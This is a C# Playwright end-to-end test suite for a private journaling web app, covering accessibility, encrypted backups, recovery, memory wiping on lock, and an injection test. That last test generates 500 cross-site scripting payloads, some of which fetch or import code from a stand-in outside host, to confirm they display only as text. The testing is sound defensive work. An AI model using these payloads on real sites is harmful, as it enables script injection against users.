using System.Text;
using Microsoft.Playwright;

namespace Saltwater.Host.Tests.Keep;

/// <summary>What somebody does who keeps notes over weeks, from the first word to the last, in a real browser.</summary>
public sealed class KeepJourneyTests(RunningSite site, Browser browser)
{
    [Theory]
    [InlineData(ColorScheme.Dark, 360, 100)]
    [InlineData(ColorScheme.Light, 320, 100)]
    [InlineData(ColorScheme.Dark, 320, 200)]
    public async Task No_screen_breaks_a_rule_of_accessibility_sticks_out_or_loses_the_keyboard(ColorScheme scheme, int width, int textPercent)
    {
        await using var visit = await Visit.Begin(browser, new() { BypassCSP = true, ColorScheme = scheme, ReducedMotion = ReducedMotion.Reduce, ViewportSize = new() { Width = width, Height = 780 } });
        if (textPercent != 100)
        {
            await visit.Context.AddInitScriptAsync($"addEventListener('DOMContentLoaded', () => document.documentElement.style.setProperty('font-size', '{textPercent}%', 'important'))");
        }

        var keeper = new Keeper(visit, site);
        List<string> faults = [];
        await keeper.Begin(Look);
        await Look("no evenings yet");
        await keeper.Press("Note an evening");
        await keeper.On("Note an evening");
        await Look("form");
        await keeper.Answer("Were there tears?", "yes");
        await keeper.Page.GetByLabel("In your own words, if you like").FillAsync("A long week.");
        await keeper.Press("Save");
        await keeper.On("Your evenings");
        await Look("evenings");
        await keeper.Press("Show as a calendar");
        await Seen("calendar", false);
        await keeper.Page.GetByRole(AriaRole.Table).GetByRole(AriaRole.Button).First.ClickAsync();
        await Look("day");
        await keeper.Press("Back");
        await keeper.Press("Show as a list");
        await keeper.Page.Locator(".door").First.ClickAsync();
        await Look("one evening");
        await keeper.Press("Back");
        foreach (var part in new[] { "Patterns", "A page to take along", "Bring in or take out", "Limits and care" })
        {
            await keeper.Press(part);
            await keeper.On(part == "Limits and care" ? "Lists for care" : part);
            await Look(part);
            await keeper.Press("Back");
            await keeper.On("Your evenings");
        }

        await keeper.Press("Backup, passphrase, delete");
        await keeper.On("Backup, passphrase, delete");
        await Look("backup");
        await keeper.Press("Change the passphrase");
        await Look("another passphrase");
        await keeper.Press("Back");
        await keeper.Press("Delete everything here");
        await keeper.On("Delete everything here?");
        await Look("delete");
        await keeper.Press("No, go back");
        await keeper.On("Your evenings");
        await keeper.Lock();
        await keeper.Unlock("not these words at all");
        await Assertions.Expect(keeper.Page.GetByText("That is not the passphrase.")).ToBeVisibleAsync(new() { Timeout = 60_000 });
        Assert.Equal("Open", await keeper.Focused());
        await Seen("locked", false);

        Assert.Equal([], faults);
        Assert.Empty(visit.Complaints);

        Task Look(string screen) => Seen(screen, true);

        Task Seen(string screen, bool arrives) => KeepJourneyTests.Seen(keeper, faults, screen, arrives);
    }

    [Fact]
    public async Task Three_weeks_are_kept_through_locks_a_lost_passphrase_and_another_browser()
    {
        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        var requests = visit.Requests.Count;
        for (var evening = 0; evening < 21; evening++)
        {
            await keeper.Note($"evening {evening}", tears: evening % 3 == 0);
        }

        Assert.Equal(requests, visit.Requests.Count);
        await keeper.Lock();
        await keeper.Unlock();
        await keeper.On("Your evenings");
        await Assertions.Expect(keeper.Page.Locator(".door")).ToHaveCountAsync(21);
        await keeper.Press("Backup, passphrase, delete");
        var (name, backup) = await keeper.Saves("Save a backup");
        Assert.Equal("backup.bin", name);
        Assert.Equal(-1, backup.AsSpan().IndexOf("evening 7"u8));

        // The passphrase is forgotten, the device is lost: the file and the code are left.
        await using var later = await Visit.Begin(browser);
        var again = new Keeper(later, site);
        await again.ToNotes();
        await again.Press("I have a backup file");
        await again.On("Open a backup file");
        await again.Give("backup", backup);
        await again.Page.GetByText("I use the recovery code").ClickAsync();
        await again.Page.GetByLabel("Recovery code", new() { Exact = true }).FillAsync(string.Join(' ', keeper.Code));
        await again.Press("Open it here");
        await again.On("Your evenings");
        await Assertions.Expect(again.Page.Locator(".door")).ToHaveCountAsync(21);

        await again.Press("Backup, passphrase, delete");
        await again.Press("Change the passphrase");
        await again.Press("Other words");
        again.Phrase = await again.Page.Locator("#offered").InnerTextAsync();
        await again.Page.GetByLabel("Type the five words").FillAsync(again.Phrase);
        await again.Press("Use this one");
        await Assertions.Expect(again.Page.GetByText("From now on the new passphrase opens your notes on this device.")).ToBeVisibleAsync(new() { Timeout = 60_000 });
        await again.Press("Back to my notes");
        await again.Note("on the other device");
        await again.Lock();
        await again.Unlock(keeper.Phrase);
        await Assertions.Expect(again.Page.GetByText("That is not the passphrase.")).ToBeVisibleAsync(new() { Timeout = 60_000 });
        await again.Page.GetByLabel("Passphrase", new() { Exact = true }).FillAsync(again.Phrase);
        await again.Press("Open");
        await again.On("Your evenings");
        await Assertions.Expect(again.Page.Locator(".door")).ToHaveCountAsync(22);
        await again.Press("Backup, passphrase, delete");
        var (_, other) = await again.Saves("Save a backup");

        // The first device turns up again and has gone on by itself: both are joined, nothing is lost.
        await keeper.Press("Back to my notes");
        await keeper.Note("on the first device");
        await keeper.Press("Backup, passphrase, delete");
        await keeper.Give("merge", other);
        await keeper.Press("See what it would change");
        await Assertions.Expect(keeper.Page.GetByText("It adds one thing. Nothing else changes.")).ToBeVisibleAsync();
        await keeper.Press("Bring it in");
        await Assertions.Expect(keeper.Page.GetByText("Your notes from both are here now.")).ToBeVisibleAsync();
        await keeper.Press("Back to my notes");
        await Assertions.Expect(keeper.Page.Locator(".door")).ToHaveCountAsync(23);

        Assert.Empty(visit.Complaints);
        Assert.Empty(later.Complaints);
        Assert.All(visit.Requests.Concat(later.Requests), address => Assert.StartsWith(site.Address.AbsoluteUri, address.Replace("blob:", "", StringComparison.Ordinal), StringComparison.Ordinal));
    }

    [Fact]
    public async Task By_the_keyboard_alone_a_journal_is_begun_an_evening_noted_and_everything_deleted()
    {
        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Page.GotoAsync(site.At("/app"));
        await keeper.Page.Locator("#loading").WaitForAsync(new() { State = WaitForSelectorState.Detached, Timeout = 60_000 });
        await Press("Keep notes for yourself");
        await keeper.On("Keep notes for yourself");
        await Press("Begin a journal");
        await keeper.On("A passphrase for your notes");
        var words = await keeper.Page.Locator("#offered").InnerTextAsync();
        await visit.Reach("input[autocomplete=new-password]");
        await keeper.Page.Keyboard.TypeAsync(words);
        await keeper.Page.Keyboard.PressAsync("Enter");
        await keeper.On("Your recovery code");
        await Press("I go without it");
        await keeper.On("Your evenings");
        await Press("Note an evening");
        await keeper.On("Note an evening");
        await visit.Reach("[aria-labelledby=ask-tears] button");
        await keeper.Page.Keyboard.PressAsync("Space");
        await visit.Reach("textarea");
        await keeper.Page.Keyboard.TypeAsync("by keys");
        await Press("Save");
        await keeper.On("Your evenings");
        await Assertions.Expect(keeper.Page.Locator(".door")).ToContainTextAsync("by keys");
        await Press("Lock now");
        await keeper.On("One question at a time");
        await Press("Keep notes for yourself");
        await keeper.On("Your notes are locked");
        await Press("Delete everything here");
        await keeper.On("Delete everything here?");
        await Press("Yes, delete everything");
        await visit.Arrives(site.At("/wipe"));
        Assert.Empty(await visit.Kept());

        async Task Press(string words)
        {
            await visit.Reach("button", words);
            await keeper.Page.Keyboard.PressAsync("Enter");
        }
    }

    [Fact]
    public async Task What_is_half_written_when_the_page_goes_out_of_sight_is_there_after_the_lock()
    {
        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        await keeper.Press("Note an evening");
        await keeper.Page.GetByLabel("In your own words, if you like").FillAsync("half a sentence");
        await keeper.Page.Do("() => { Object.defineProperty(document, 'visibilityState', { get: () => 'hidden', configurable: true }); document.dispatchEvent(new Event('visibilitychange')) }");
        await keeper.Page.WaitForTimeoutAsync(1_000);

        // As when a phone ends the page: nothing more is said to it.
        await keeper.Unlock();
        await keeper.On("Your evenings");
        await keeper.Press("Go on with it");
        await keeper.On("Note an evening");
        Assert.Equal("half a sentence", await keeper.Page.GetByLabel("In your own words, if you like").InputValueAsync());

        await keeper.Page.GetByLabel("In your own words, if you like").FillAsync("half a sentence and the rest");
        await keeper.Lock();
        await keeper.Unlock();
        await keeper.On("Your evenings");
        await keeper.Press("Go on with it");
        Assert.Equal("half a sentence and the rest", await keeper.Page.GetByLabel("In your own words, if you like").InputValueAsync());
    }

    [Fact]
    public async Task Where_the_browser_takes_the_storage_away_meanwhile_it_says_so_and_a_backup_still_holds_everything()
    {
        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        await keeper.Note("before");
        var tools = await visit.Context.NewCDPSessionAsync(visit.Page);
        await tools.SendAsync("Storage.clearDataForOrigin", new() { ["origin"] = site.Address.GetLeftPart(UriPartial.Authority), ["storageTypes"] = "indexeddb" });

        await keeper.Press("Note an evening");
        await keeper.Answer("Were there tears?", "yes");
        await keeper.Page.GetByLabel("In your own words, if you like").FillAsync("after");
        await keeper.Press("Save");
        await Assertions.Expect(keeper.Page.GetByText("The browser took the storage away.")).ToBeVisibleAsync();
        Assert.Equal("after", await keeper.Page.GetByLabel("In your own words, if you like").InputValueAsync());
        await keeper.Press("Back");
        await keeper.Press("Leave it");
        await keeper.Press("Backup, passphrase, delete");
        var (_, backup) = await keeper.Saves("Save a backup");

        await using var later = await Visit.Begin(browser);
        var again = new Keeper(later, site);
        await again.ToNotes();
        await again.Press("I have a backup file");
        await again.Give("backup", backup);
        await again.Page.GetByLabel("Passphrase", new() { Exact = true }).FillAsync(keeper.Phrase);
        await again.Press("Open it here");
        await again.On("Your evenings");
        await Assertions.Expect(again.Page.Locator(".door")).ToContainTextAsync("before");

        // The next time the first browser says what happened, and does not look new.
        await keeper.ToNotes();
        await keeper.On("Your notes are not here any more");
        Assert.Empty(visit.Complaints);
    }

    [Fact]
    public async Task Noted_while_locked_it_is_read_only_after_opening()
    {
        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        await keeper.Lock();
        await keeper.ToNotes();
        await keeper.On("Your notes are locked");
        await keeper.Press("There were tears today");
        await Assertions.Expect(keeper.Page.GetByText("Sealed. You will find it in your notes")).ToBeVisibleAsync();
        await Assertions.Expect(keeper.Page.Locator(".door")).ToHaveCountAsync(0);
        await keeper.Page.GetByLabel("Passphrase", new() { Exact = true }).FillAsync(keeper.Phrase);
        await keeper.Press("Open");
        await keeper.On("Your evenings");
        await Assertions.Expect(keeper.Page.Locator(".door")).ToHaveCountAsync(1);
    }

    [Fact]
    public async Task Once_locked_the_heap_holds_no_word_of_it_and_the_worker_is_gone()
    {
        const string Marker = "zqxheap4711lantern";
        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        await keeper.Note(Marker);
        await Assertions.Expect(keeper.Page.Locator(".door")).ToContainTextAsync(Marker);
        Assert.True(await Holds(keeper.Page, Marker), "The word is not found even while it is on the screen: then not finding it would mean nothing.");
        Assert.Single(keeper.Page.Workers);

        await keeper.Lock();

        Assert.Empty(keeper.Page.Workers);
        Assert.False(await Holds(keeper.Page, Marker));
        Assert.False(await Holds(keeper.Page, keeper.Phrase));
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Once_locked_or_left_no_process_that_shows_pages_holds_a_word_of_it(bool locks)
    {
        var marker = "zqxprocess8128lantern" + (locks ? "a" : "b");
        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        await keeper.Note(marker);
        var history = await visit.Page.Ask<int>("history.length");
        Assert.True(ProcessMemory.Holds(marker), "The word is not found even while it is on the screen: then not finding it would mean nothing.");

        if (locks)
        {
            await keeper.Lock();
            Assert.Equal(history, await visit.Page.Ask<int>("history.length"));
        }
        else
        {
            await visit.Page.Locator("#leave").ClickAsync();
            await visit.Arrives(site.At("/pause"));
        }

        // The process that held it ends a moment later.
        await Visit.Until(() => Task.FromResult(!ProcessMemory.Holds(marker)));
        Assert.False(ProcessMemory.Holds(keeper.Phrase));
    }

    [Theory]
    [InlineData(ColorScheme.Dark)]
    [InlineData(ColorScheme.Light)]
    public async Task A_list_of_limits_is_written_and_handed_across_and_every_screen_says_that_it_is_not_consent(ColorScheme scheme)
    {
        await using var visit = await Visit.Begin(browser, new() { BypassCSP = true, ColorScheme = scheme, ReducedMotion = ReducedMotion.Reduce, ViewportSize = new() { Width = 320, Height = 780 } });
        var keeper = new Keeper(visit, site);
        List<string> faults = [];
        await keeper.Begin();
        await keeper.Press("Limits and care");
        await Look("Lists for care");
        await keeper.Press("Write a list");
        await Look("For your eyes only");
        await keeper.Press("Go on");
        await Look("Before you begin");
        await keeper.Press("Go on");
        await Look("My list");
        foreach (var signal in BuiltSite.Pack.Limits.Signals)
        {
            await Assertions.Expect(keeper.Page.GetByText(signal.Text, new() { Exact = false }).First).ToBeVisibleAsync();
        }

        await keeper.Page.GetByText(BuiltSite.Pack.Limits.Signals[0].Text, new() { Exact = false }).First.ClickAsync();
        await keeper.Press("Done");
        await Look("My list");
        await Assertions.Expect(keeper.Page.Locator(".sheet")).ToContainTextAsync(BuiltSite.Pack.Limits.Signals[0].Name);
        await keeper.Press("Write one with someone here");
        await Look("What may be seen");
        await keeper.Page.GetByText("Signals").First.ClickAsync();
        await keeper.Press("Go on");
        await Look("Hand it over");
        await keeper.Press("I am the other person");
        await Look("For your eyes only");
        await keeper.Press("Go on");
        await Look("Before you begin");
        await keeper.Press("Go on");
        await Look("My list");
        await keeper.Press("Done");
        await Look("What may be seen");
        await keeper.Press("Go on");
        await Look("Our lists");
        await keeper.Press("Close");
        await keeper.On("One question at a time");

        Assert.Equal([], faults);
        Assert.Empty(visit.Complaints);

        async Task Look(string heading)
        {
            await keeper.On(heading);
            await Assertions.Expect(keeper.Page.Locator(".reminder").First).ToHaveTextAsync(BuiltSite.Pack.Limits.Reminder);
            await Seen(keeper, faults, heading, true);
        }
    }

    [Fact]
    public async Task Whatever_is_written_is_shown_as_text()
    {
        string[] acts = ["globalThis.struck=1", "top.struck=1", "fetch('//elsewhere.example')", "import('//elsewhere.example/a.js')", "document.title='struck'"];
        string[] shapes =
        [
            "<script>{0}</script>", "<img src=x onerror=\"{0}\">", "<svg onload=\"{0}\">", "\"><script>{0}</script>", "'><img src=x onerror={0}>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<a href=\"javascript:{0}\">x</a>",
            "</textarea><script>{0}</script>", "</title><script>{0}</script>", "<details open ontoggle=\"{0}\">", "<input autofocus onfocus=\"{0}\">", "<math><mtext><img src=x onerror={0}></mtext></math>", "<template><script>{0}</script></template>",
            "<base href=//elsewhere.example>{0}", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<link rel=stylesheet href=//elsewhere.example/{0}>", "<form action=//elsewhere.example><button>{0}</button></form>", "{{{{constructor.constructor('{0}')()}}}}",
            "<style>@import '//elsewhere.example/{0}'</style>", "<object data=\"javascript:{0}\">", "<embed src=\"javascript:{0}\">", "<video><source onerror=\"{0}\"></video>", "<body onload=\"{0}\">", "<!--><img src=x onerror={0}>-->", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
        ];
        string[] wraps = ["{0}", "&lt;{0}", "\u202e{0}", "]]>{0}"];
        string[] hostile = [.. from act in acts from shape in shapes from wrap in wraps select wrap.Replace("{0}", shape.Replace("{0}", act, StringComparison.Ordinal), StringComparison.Ordinal)];
        Assert.Equal(500, hostile.Length);

        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        var entries = hostile.Select((text, at) => new { id = at.ToString("x32", System.Globalization.CultureInfo.InvariantCulture), day = "2026-03-14", writtenOn = "2026-03-14", tears = true, note = text, facts = new Dictionary<string, string[]>() });
        await keeper.Press("Bring in or take out");
        await keeper.Give("bring-in", System.Text.Json.JsonSerializer.SerializeToUtf8Bytes(new { saltwater = "open data", format = 1, exported = "2026-03-14", entries, cycleDays = Array.Empty<int>() }));
        await keeper.Press("Bring it in");
        await keeper.Page.GetByText("Brought in: 500 evenings").WaitForAsync();
        await keeper.Press("Back");
        await keeper.On("Your evenings");
        while (await keeper.Page.GetByRole(AriaRole.Button, new() { Name = "Show more" }).CountAsync() > 0)
        {
            await keeper.Press("Show more");
        }

        await Assertions.Expect(keeper.Page.Locator(".door")).ToHaveCountAsync(500);
        foreach (var text in hostile.Take(25))
        {
            await keeper.Page.GetByRole(AriaRole.Searchbox).FillAsync(text);
            await keeper.Page.Locator(".door").First.ClickAsync();
            await Assertions.Expect(keeper.Page.Locator(".written")).ToContainTextAsync(text);
            await keeper.Press("Back");
        }

        await keeper.Page.GetByRole(AriaRole.Searchbox).FillAsync("");
        await keeper.Press("A page to take along");
        await keeper.Page.GetByLabel("What I want to ask, one thing a line").FillAsync(string.Join('\n', hostile));
        await keeper.Press("All");
        await keeper.Page.GetByText("my own words").ClickAsync();
        await visit.OpenAll();
        Assert.Contains(hostile[0], await keeper.Page.Locator(".sheet").InnerTextAsync(), StringComparison.Ordinal);
        await keeper.Press("Back");
        await keeper.Press("Limits and care");
        await keeper.Press("Write a list");
        await keeper.Press("Go on");
        await keeper.Press("Go on");
        await keeper.On("My list");
        await visit.OpenAll();
        await keeper.Page.GetByLabel("What you call this list, if you like.").FillAsync(hostile[4]);
        await keeper.Page.GetByLabel("In your own words").First.FillAsync(hostile[8]);
        await keeper.Press("Done");
        await Assertions.Expect(keeper.Page.Locator(".sheet").First).ToContainTextAsync("<");

        Assert.Empty(visit.Complaints);
        Assert.Equal("Saltwater", await keeper.Page.TitleAsync());
        Assert.False(await keeper.Page.Ask<bool>("'struck' in globalThis"));
        Assert.All(visit.Requests, address => Assert.StartsWith(site.Address.AbsoluteUri, address, StringComparison.Ordinal));
    }

    // Every box open, held against the rules; nothing at the side; and the keyboard where a new screen begins.
    private static async Task Seen(Keeper keeper, List<string> faults, string screen, bool arrives)
    {
        if (arrives)
        {
            await Visit.Until(async () => await keeper.Page.Ask<bool>("document.activeElement === document.querySelector('[data-arrive]')"), $"focus on the heading: {screen}");
        }

        await keeper.Visit.OpenAll();
        faults.AddRange(await keeper.Page.Faults(screen));
        if (await keeper.Visit.Sideways() is { Length: > 0 } wide)
        {
            faults.Add($"{screen}: {wide} sticks out");
        }
    }

    // A snapshot of all that script can reach, and the memory of the program, which such a snapshot leaves out.
    private static async Task<bool> Holds(IPage page, string text)
    {
        var tools = await page.Context.NewCDPSessionAsync(page);
        var snapshot = new StringBuilder();
        tools.Event("HeapProfiler.addHeapSnapshotChunk").OnEvent += (_, chunk) => snapshot.Append(chunk?.GetProperty("chunk").GetString());
        await tools.SendAsync("HeapProfiler.collectGarbage");
        await tools.SendAsync("HeapProfiler.takeHeapSnapshot", new() { ["reportProgress"] = false });
        await tools.DetachAsync();
        var inProgram = await page.Ask<bool>(
            """
            text => {
              const bytes = Blazor.runtime.localHeapViewU8(), has = sought => { for (let at = bytes.indexOf(sought[0]); at >= 0; at = bytes.indexOf(sought[0], at + 1)) if (sought.every((byte, i) => bytes[at + i] === byte)) return true; return false };
              const narrow = [...new TextEncoder().encode(text)];
              return has(narrow) || has(narrow.flatMap(byte => [byte, 0]).slice(0, -1));
            }
            """,
            text);
        return inProgram || snapshot.ToString().Contains(text, StringComparison.Ordinal);
    }
}
